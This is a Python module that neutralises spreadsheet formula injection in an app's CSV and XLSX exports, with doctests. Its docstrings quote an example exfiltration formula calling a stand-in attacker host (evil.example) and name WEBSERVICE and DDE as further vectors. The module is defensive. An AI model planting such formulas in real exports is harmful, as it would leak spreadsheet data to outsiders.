"""Spreadsheet cells (CSV and XLSX) the app writes, safe to open in Excel, WPS or LibreOffice.

A spreadsheet runs a cell that starts like a formula: a project renamed
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would send the sheet's data away when a
reader of the export clicks, ``=WEBSERVICE(...)`` without a click, and a CSV can start other
programs through DDE (OWASP, "CSV injection"). Every export writer passes its rows through this
module, so text a user typed is only ever shown, never run:

- CSV (:func:`safe_text`, :func:`csv_row`): text starting with ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return gets a leading ``'``, which Excel and WPS read as "this is text". A CSV
  cell has no type, so a visible apostrophe is the accepted price.
- XLSX (:func:`append_row`, :func:`text_cell`): text is stored as a string cell, never as a
  formula (openpyxl makes a formula of any text starting with ``=`` and an error of ``#N/A``).
  The reader sees exactly what was typed, and a workbook read back (the plan import) gets the
  same text.

Numbers, dates and booleans pass unchanged in both: they stay numbers and dates in Excel (a
negative number is a number, not a formula).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise
from django.utils.translation import gettext
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

__all__ = ["FORMULA_STARTS", "append_row", "csv_row", "safe_text", "text_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
"""What a formula (or a DDE call) can start with: OWASP's list, plus the full-width forms,
which East Asian input settings of Excel and WPS may turn into the ASCII ones."""


def _text(value: Any) -> Any:
    """A lazy translation as the text it stands for; anything else unchanged."""
    return str(value) if isinstance(value, Promise) else value


def safe_text(value: Any) -> Any:
    """``value`` for a CSV cell: text that could start a formula gets a leading ``'``.

    Anything that is not text (numbers, dates, booleans, ``None``) is returned unchanged.

    Examples
    --------
    >>> safe_text('=HYPERLINK("http://evil.example","click")')
    '\\'=HYPERLINK("http://evil.example","click")'
    >>> safe_text("-1+2"), safe_text("Core banking"), safe_text(-3)
    ("'-1+2", 'Core banking', -3)
    """
    value = _text(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """One row for :func:`csv.writer`: ``None`` as an empty cell, a flag as "yes" or "no" in
    the reader's language (a CSV has no booleans; Python's ``True`` is no word to them), text
    through :func:`safe_text`.

    >>> csv_row(["P1", "@SUM(A1:A9)", None, 2.5, True])
    ['P1', "'@SUM(A1:A9)", '', 2.5, 'yes']
    """
    return [
        ""
        if v is None
        else (gettext("yes") if v else gettext("no"))
        if isinstance(v, bool)
        else safe_text(v)
        for v in values
    ]


def text_cell(ws: Worksheet, value: Any) -> Any:
    """``value`` for ``ws.append``: text as a string cell of ``ws``, anything else unchanged.

    The text is kept as typed, except for the control characters an XLSX file cannot hold
    (openpyxl refuses them, which would fail the whole export), which are dropped.

    >>> from openpyxl import Workbook
    >>> cell = text_cell(Workbook().active, "=1+2")
    >>> cell.value, cell.data_type
    ('=1+2', 's')
    """
    value = _text(value)
    if not isinstance(value, str):
        return value
    cell = Cell(ws, value=ILLEGAL_CHARACTERS_RE.sub("", value))
    cell.data_type = "s"  # after the value: openpyxl types "=..." as a formula, "#N/A" an error
    return cell


def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
    """Append ``values`` to ``ws`` as ``ws.append`` does, text as string cells (:func:`text_cell`).

    >>> from openpyxl import Workbook
    >>> ws = Workbook().active
    >>> append_row(ws, ["=1+2", -4])
    >>> [(c.value, c.data_type) for c in ws[1]]
    [('=1+2', 's'), (-4, 'n')]
    """
    ws.append([text_cell(ws, v) for v in values])
